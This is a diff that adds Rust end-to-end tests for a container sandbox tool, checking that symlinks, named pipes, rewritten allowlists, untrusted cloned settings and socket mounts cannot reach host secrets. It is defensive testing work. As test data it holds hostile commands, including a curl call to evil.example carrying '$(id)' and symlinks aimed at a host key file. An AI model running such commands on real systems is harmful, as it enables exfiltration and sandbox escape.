@@ -1,0 +1,420 @@
+//! What a run leaves in the work tree is hostile to the next one: links, pipes, rewritten settings, archives. Each test has a control
+//! in which the same attempt succeeds where no task could have made it, or where somebody agreed to it.
+
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+
+use e2e_tests::engine;
+use tempfile::TempDir;
+
+use super::project::{Ended, Project};
+
+/// Many times what a command takes that refuses to start.
+const AT_ONCE: &str = "60";
+
+/// A folder of the host with something in it that no task may read or change.
+fn secrets() -> TempDir {
+    let folder = tempfile::tempdir().expect("a folder");
+    fs::write(folder.path().join("key"), "host-only\n").expect("a file");
+    folder
+}
+
+fn untouched(folder: &TempDir) -> bool {
+    let names = fs::read_dir(folder.path()).expect("a folder").count();
+    names == 1 && fs::read_to_string(folder.path().join("key")).is_ok_and(|text| text == "host-only\n")
+}
+
+/// The command, which is killed where it hangs.
+fn ended(project: &Project, arguments: &[&str]) -> Ended {
+    let command = project.sandbox(arguments);
+    let mut timed = std::process::Command::new("timeout");
+    timed
+        .args(["--signal=KILL", AT_ONCE])
+        .arg(command.get_program())
+        .args(command.get_args());
+    if let Some(folder) = command.get_current_dir() {
+        timed.current_dir(folder);
+    }
+    for (name, value) in command.get_envs() {
+        match value {
+            Some(value) => timed.env(name, value),
+            None => timed.env_remove(name),
+        };
+    }
+    timed
+        .stdin(std::process::Stdio::null())
+        .output()
+        .expect("the sandbox command")
+        .into()
+}
+
+fn is_refused(ended: &Ended, why: &str) -> bool {
+    ended.code == Some(125) && ended.stderr.contains(why)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_in_the_place_of_a_mounted_folder_is_not_mounted() {
+    let (project, secrets) = (Project::new(), secrets());
+    project.write("cache/x", "");
+    project.append(".sandbox/sandbox.yaml", "mounts: [\"../cache:/cache\"]\n");
+    let planted = project.run(&format!("mv cache old; ln -s {} cache", secrets.path().display()));
+    assert_eq!(planted.code, Some(0), "{planted:?}");
+    let next = project.run("cat /cache/key; echo x > /cache/by-task");
+    assert!(
+        is_refused(&next, "symbolic link in a folder that tasks can write"),
+        "{next:?}"
+    );
+    assert!(!next.stdout.contains("host-only") && untouched(&secrets));
+    // The control: the same link where no task can write is the user's own.
+    let own = tempfile::tempdir().expect("a folder");
+    symlink(secrets.path(), own.path().join("cache")).expect("a link");
+    let mount = format!("{}/cache:/own:ro", own.path().display());
+    project.write("cache", "");
+    fs::remove_file(project.path().join("cache")).expect("a link that was replaced");
+    project.write("cache/x", "");
+    let control = project.output(&["run", "--mount", &mount, "--", "cat", "/own/key"]);
+    assert_eq!(control.stdout, "host-only\n", "{control:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn logs_are_not_written_through_a_link_or_a_second_name() {
+    let (project, secrets) = (Project::new(), secrets());
+    let victim = secrets.path().join("key");
+    let planted = project.run(&format!(
+        "ln -s {0} net.log; ln -s {0} net2.log.jsonl; ln -s {0} own.log; echo x > plain; ln plain second.log",
+        victim.display()
+    ));
+    assert_eq!(planted.code, Some(0), "{planted:?}");
+    let request = ["--", "curl", "-s", "http://evil.example/$(id)"];
+    for flags in [
+        ["--network-log", "net.log"],
+        ["--network-log", "net2.log"],
+        ["--network-log", "second.log"],
+        ["--log", "own.log"],
+    ] {
+        let next = project.output(&[&["run"], &flags[..], &request[..]].concat());
+        assert!(
+            is_refused(&next, "in a folder that tasks can write"),
+            "{flags:?}: {next:?}"
+        );
+    }
+    assert!(untouched(&secrets));
+    // The control: a link of the user's own is followed.
+    let own = tempfile::tempdir().expect("a folder");
+    symlink(&victim, own.path().join("net.log")).expect("a link");
+    let log = own.path().join("net.log").display().to_string();
+    let control = project.output(&[&["run", "--network-log", &log], &request[..]].concat());
+    assert_eq!(control.code, Some(0), "{control:?}");
+    assert!(
+        fs::read_to_string(&victim)
+            .expect("a file")
+            .contains("BLOCKED GET")
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_pipe_in_the_place_of_any_file_hangs_nothing() {
+    let project = Project::new();
+    let planted = project.run("mkfifo pipe pipe.jsonl; mkdir dir; mkfifo dir/Dockerfile dir/images.tar");
+    assert_eq!(planted.code, Some(0), "{planted:?}");
+    for arguments in [
+        &["run", "--network-log", "pipe", "--", "true"][..],
+        &["run", "--log", "pipe", "--", "true"],
+        &["run", "--allowlist", "pipe", "--", "true"],
+        &["run", "--config", "pipe", "--", "true"],
+        &["run", "--dockerfile", "pipe", "--", "true"],
+        &["image", "hash", "--context", "dir"],
+        &["image", "load", "dir"],
+        &["allowlist", "lint", "--allowlist", "pipe"],
+        &["config", "check", "--config", "pipe"],
+    ] {
+        let next = ended(&project, arguments);
+        assert!(
+            matches!(next.code, Some(1 | 125)) && next.stderr.contains("not a regular file")
+                || next.stdout.contains("not a regular file"),
+            "{arguments:?}: {next:?}"
+        );
+    }
+    // The control: what is a file is read.
+    project.write("policy.yaml", "domains: []\n");
+    let control = ended(&project, &["run", "--allowlist", "policy.yaml", "--", "true"]);
+    assert_eq!(control.code, Some(0), "{control:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn settings_that_are_reached_by_a_link_of_the_tree_are_not_obeyed() {
+    let project = Project::new();
+    let folder = project.path().join(".sandbox");
+    fs::rename(&folder, project.path().join("conf")).expect("a folder");
+    symlink("conf", &folder).expect("a link");
+    let refused = project.run("true");
+    assert!(
+        is_refused(&refused, "symbolic link in a folder that tasks can write"),
+        "{refused:?}"
+    );
+    // The control: the same settings in their own place.
+    fs::remove_file(&folder).expect("a link");
+    fs::rename(project.path().join("conf"), &folder).expect("a folder");
+    assert_eq!(project.run("true").code, Some(0));
+    fs::rename(
+        folder.join("network-allowlist.yaml"),
+        project.path().join("policy.yaml"),
+    )
+    .expect("a file");
+    symlink("../policy.yaml", folder.join("network-allowlist.yaml")).expect("a link");
+    let refused = project.run("true");
+    assert!(
+        is_refused(&refused, "symbolic link in a folder that tasks can write"),
+        "{refused:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_flag_names_is_obeyed_only_as_it_was_trusted() {
+    let project = Project::new();
+    project.write("policy.yaml", "domains: [open.test]\n");
+    let trusted = project
+        .wary(&["trust", "--allowlist", "policy.yaml"])
+        .output()
+        .expect("the command");
+    assert!(trusted.status.success(), "{trusted:?}");
+    let run = ["run", "--allowlist", "policy.yaml", "--", "true"];
+    let first: Ended = project.wary(&run).output().expect("the command").into();
+    assert_eq!(first.code, Some(0), "{first:?}");
+    // As a task would where nothing guards the file.
+    project.write("policy.yaml", "domains: ['*']\n");
+    let next: Ended = project.wary(&run).output().expect("the command").into();
+    assert!(
+        is_refused(&next, "changed since you trusted them") && next.stderr.contains("reach *"),
+        "{next:?}"
+    );
+    // The control: somebody agrees to it.
+    assert_eq!(project.output(&run).code, Some(0));
+    // A file where no task can write needs no trust.
+    let own = tempfile::tempdir().expect("a folder");
+    fs::write(own.path().join("policy.yaml"), "domains: ['*']\n").expect("a file");
+    let path = own.path().join("policy.yaml").display().to_string();
+    let elsewhere = project.wary(&["run", "--allowlist", &path, "--", "true"]);
+    let elsewhere: Ended = { elsewhere }.output().expect("the command").into();
+    assert_eq!(elsewhere.code, Some(0), "{elsewhere:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_repository_that_was_cloned_gets_nothing_before_it_is_trusted() {
+    let (project, secrets) = (Project::new(), secrets());
+    let asks = format!(
+        "network_sandbox: false\nprotect_workspace: false\nmounts: [\"{}:/secrets\"]\nenv: {{K: !env HOST_KEY}}\npass_env: [HOST_TOKEN]\n",
+        secrets.path().display()
+    );
+    project.append(".sandbox/sandbox.yaml", &asks);
+    let script = "cat /secrets/key; echo $K $HOST_TOKEN";
+    let with_keys = |mut command: std::process::Command| -> Ended {
+        command
+            .env("HOST_KEY", "host-key")
+            .env("HOST_TOKEN", "host-token");
+        command.output().expect("the command").into()
+    };
+    let run = ["run", "--", "bash", "-c", script];
+    let refused = with_keys(project.wary(&run));
+    assert_eq!(refused.code, Some(125), "{refused:?}");
+    for request in [
+        "turn the network sandbox off",
+        "write what programs of this machine run on their own",
+        "use the engine unix://",
+        "read and write",
+        "read your variables HOST_KEY, HOST_TOKEN",
+        "reach the private networks 203.0.113.0/24",
+        "hint: read them, then run `sandbox trust`",
+    ] {
+        assert!(refused.stderr.contains(request), "{request}: {refused:?}");
+    }
+    assert!(!refused.stdout.contains("host-"));
+    for command in [
+        &["exec", "--", "true"][..],
+        &["status"],
+        &["clean"],
+        &["diff"],
+        &["apply"],
+        &["discard"],
+        &["verify"],
+        &["image", "list"],
+    ] {
+        let refused = with_keys(project.wary(command));
+        assert_eq!(refused.code, Some(125), "{command:?}: {refused:?}");
+    }
+    // What only looks is not obeyed, and works.
+    assert_eq!(with_keys(project.wary(&["logs"])).code, Some(0));
+    let shown = with_keys(project.wary(&["trust", "--show", "--output", "json"])).json();
+    assert_eq!(shown["trusted"], false);
+    let digest = shown["digest"].as_str().expect("a digest").to_owned();
+    // The controls: agreed to by its digest, for one run, and for good.
+    let by_digest = format!("--trust={digest}");
+    let agreed = with_keys(project.wary(&[&[by_digest.as_str()], &run[..]].concat()));
+    assert_eq!(agreed.stdout, "host-only\nhost-key host-token\n", "{agreed:?}");
+    let wrong = format!("--trust=sha256:{}", "0".repeat(64));
+    assert_eq!(
+        with_keys(project.wary(&[&[wrong.as_str()], &run[..]].concat())).code,
+        Some(125)
+    );
+    assert_eq!(
+        with_keys(project.wary(&run)).code,
+        Some(125),
+        "one run is one run"
+    );
+    assert_eq!(with_keys(project.wary(&["trust"])).code, Some(0));
+    assert_eq!(
+        with_keys(project.wary(&run)).stdout,
+        "host-only\nhost-key host-token\n"
+    );
+    assert_eq!(with_keys(project.wary(&["trust", "--revoke"])).code, Some(0));
+    assert_eq!(with_keys(project.wary(&run)).code, Some(125));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_dockerfile_or_what_it_copies_is_built_only_as_it_was_trusted() {
+    let project = Project::new();
+    let base = e2e_tests::setting::Setting::of_this_run().image.clone();
+    project.write("app/setup.sh", "echo fine\n");
+    project.write(
+        "app/Dockerfile",
+        &format!("FROM {base}\nCOPY setup.sh /setup.sh\n"),
+    );
+    let flags = ["--dockerfile", "app/Dockerfile", "--context", "app"];
+    let hash =
+        |command: std::process::Command| -> Ended { { command }.output().expect("the command").into() };
+    let show = [&["image", "hash"], &flags[..]].concat();
+    assert_eq!(hash(project.wary(&show)).code, Some(125));
+    assert_eq!(
+        hash(project.wary(&[&["trust"], &flags[..]].concat())).code,
+        Some(0)
+    );
+    assert_eq!(hash(project.wary(&show)).code, Some(0));
+    project.write("app/setup.sh", "echo evil\n");
+    let changed = hash(project.wary(&show));
+    assert!(
+        is_refused(&changed, "changed since you trusted them"),
+        "{changed:?}"
+    );
+    assert_eq!(hash(project.sandbox(&show)).code, Some(0), "the control");
+    // A context that becomes a link to the host's files.
+    fs::rename(project.path().join("app"), project.path().join("old")).expect("a folder");
+    symlink("/etc", project.path().join("app")).expect("a link");
+    let linked = hash(project.sandbox(&[
+        "image",
+        "hash",
+        "--dockerfile",
+        "old/Dockerfile",
+        "--context",
+        "app",
+    ]));
+    assert!(
+        is_refused(&linked, "symbolic link in a folder that tasks can write"),
+        "{linked:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_archive_that_a_task_can_write_is_not_loaded_and_replaces_no_proxy() {
+    let project = Project::new();
+    let link = project.path().join("archive");
+    let saved = project.output(&["image", "save", "archive"]);
+    assert_eq!(saved.code, Some(0), "{saved:?}");
+    let load: Ended = project
+        .wary(&["--trust", "image", "list"])
+        .output()
+        .expect("the command")
+        .into();
+    assert_eq!(load.code, Some(0), "{load:?}");
+    assert_eq!(
+        project.wary(&["trust"]).status().expect("the command").code(),
+        Some(0)
+    );
+    let refused: Ended = project
+        .wary(&["image", "load", "archive"])
+        .output()
+        .expect("the command")
+        .into();
+    assert!(
+        is_refused(&refused, "can replace any image of the engine"),
+        "{refused:?}"
+    );
+    assert_eq!(
+        project.output(&["image", "load", "archive"]).code,
+        Some(0),
+        "the control"
+    );
+
+    let secrets = secrets();
+    fs::remove_dir_all(&link).expect("a folder");
+    fs::create_dir(&link).expect("a folder");
+    symlink(secrets.path().join("key"), link.join("images.tar")).expect("a link");
+    symlink(secrets.path().join("key"), link.join("images.tar.unfinished")).expect("a link");
+    let saved = project.output(&["image", "save", "archive"]);
+    assert_eq!(saved.code, Some(0), "{saved:?}");
+    assert!(
+        untouched(&secrets)
+            && link
+                .join("images.tar")
+                .metadata()
+                .is_ok_and(|facts| facts.is_file())
+    );
+    assert!(
+        link.join("images.tar")
+            .symlink_metadata()
+            .is_ok_and(|facts| facts.is_file())
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_session_that_another_projects_tasks_can_write_is_refused() {
+    let (project, other) = (Project::new(), Project::new());
+    assert_eq!(other.run("mkdir session").code, Some(0));
+    let session = other.path().join("session").display().to_string();
+    let refused = project.output(&["agent", "--session-dir", &session, "hello"]);
+    assert!(
+        is_refused(&refused, "lies in a folder that tasks can write"),
+        "{refused:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn this_machine_is_no_mount() {
+    let project = Project::new();
+    let socket = PathBuf::from(
+        e2e_tests::setting::Setting::of_this_run()
+            .engine
+            .trim_start_matches("unix://"),
+    );
+    let alias = tempfile::tempdir().expect("a folder");
+    symlink(socket.parent().expect("a folder"), alias.path().join("run")).expect("a link");
+    let state = project.state().join("sandbox");
+    let mount = |path: &Path, flags: &[&str]| {
+        let mount = format!("{}:/x:ro", path.display());
+        project.output(&[&["run", "--mount", &mount], flags, &["--", "ls", "/x"]].concat())
+    };
+    for path in [
+        socket.clone(),
+        socket.parent().expect("a folder").into(),
+        alias.path().join("run"),
+    ] {
+        let refused = mount(&path, &["--allow-system-mounts"]);
+        assert!(
+            is_refused(&refused, "would give the task the engine's socket"),
+            "{refused:?}"
+        );
+    }
+    let refused = mount(&state, &["--allow-system-mounts"]);
+    assert!(is_refused(&refused, "the sandbox's own keys"), "{refused:?}");
+    for path in ["/etc", "/usr", "/root"] {
+        let refused = mount(Path::new(path), &[]);
+        assert!(
+            is_refused(&refused, "is a folder of the system or a home folder"),
+            "{path}: {refused:?}"
+        );
+    }
+    // The control: somebody asks for it by name.
+    assert_eq!(mount(Path::new("/etc"), &["--allow-system-mounts"]).code, Some(0));
+    let containers = engine::containers("no-such-prefix").await;
+    assert_eq!(containers, Vec::<String>::new());
+}
